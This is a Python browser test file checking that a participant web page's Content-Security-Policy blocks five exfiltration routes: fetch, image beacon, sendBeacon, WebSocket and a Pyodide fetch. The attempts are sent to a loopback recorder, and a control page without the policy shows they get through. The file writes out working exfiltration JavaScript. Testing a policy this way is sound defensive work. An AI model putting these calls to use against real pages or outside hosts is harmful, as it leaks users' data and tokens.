"""The privacy boundary the page enforces: code running in the participant page (an
extension, an injected script) cannot send data to another origin. A recorder on another
loopback address counts every request that reaches it; the page's Content-Security-Policy
must block each exfiltration path, while the same attempts from a page without the policy
reach the recorder (so the recorder and the attempts are real)."""
from __future__ import annotations

import http.server
import socket
import threading

import pytest

from live import wait_ready

pytestmark = pytest.mark.browser

ATTEMPTS = r"""
const [target, done] = [arguments[0], arguments[arguments.length - 1]];
const violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
const tried = [];
const attempt = async (name, fn) => { try { await fn(); tried.push(name); } catch (e) { tried.push(name + " (threw)"); } };
(async () => {
  await attempt("fetch no-cors", () => fetch(target + "/fetch?pixels=AAAA", {mode: "no-cors", method: "POST", body: "raw pixels"}));
  await attempt("image beacon", () => new Promise((r) => { const i = new Image(); i.onload = i.onerror = r; i.src = target + "/img?token=SECRET"; }));
  await attempt("sendBeacon", () => navigator.sendBeacon(target + "/beacon", "raw pixels"));
  await attempt("websocket", () => new Promise((r) => { try { const w = new WebSocket(target.replace("http", "ws") + "/ws"); w.onerror = w.onopen = r; } catch (e) { r(); } setTimeout(r, 1000); }));
  await attempt("python fetch", () => window.webfl && window.webfl.pyodide
      ? window.webfl.pyodide.runPythonAsync(`import js\nawait js.fetch("${target}/python", js.Object.fromEntries([["mode", "no-cors"]]))`)
      : Promise.resolve());
  setTimeout(() => done({tried, violations}), 1500);
})();
"""


class Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def _hit(self):
        Recorder.hits.append(self.path)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_GET = do_POST = _hit

    def log_message(self, *args):
        pass


class PlainPage(http.server.BaseHTTPRequestHandler):
    """A page with no Content-Security-Policy, on a third loopback address (the control)."""

    def do_GET(self):
        body = b"<!doctype html><title>no policy</title><p>control</p>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


def _serve(host: str, handler) -> tuple[http.server.ThreadingHTTPServer, str]:
    with socket.socket() as s:
        s.bind((host, 0))
        port = s.getsockname()[1]
    server = http.server.ThreadingHTTPServer((host, port), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, f"http://{host}:{port}"


@pytest.fixture
def recorder():
    server, url = _serve("127.0.0.2", Recorder)
    Recorder.hits = []
    yield url
    server.shutdown()


def test_the_page_blocks_every_exfiltration_path(browser, live_server, recorder):
    task = live_server.create_task("csp", classes=[str(d) for d in range(10)])
    browser.get(f"{live_server.url}/?join={task['join_code']}")
    assert wait_ready(browser) == "ready"
    result = browser.execute_async_script(ATTEMPTS, recorder)
    print(f"\nattempts: {result['tried']}\nblocked by: {sorted(set(result['violations']))}")
    assert Recorder.hits == [], Recorder.hits
    assert {"connect-src", "img-src"} <= set(result["violations"])
    assert len(result["tried"]) == 5


def test_without_the_policy_the_same_attempts_get_through(browser, recorder):
    server, url = _serve("127.0.0.3", PlainPage)
    try:
        browser.get(url)
        browser.execute_async_script(ATTEMPTS, recorder)
    finally:
        server.shutdown()
    reached = {h.split("?")[0] for h in Recorder.hits}
    assert {"/fetch", "/img", "/beacon"} <= reached, Recorder.hits
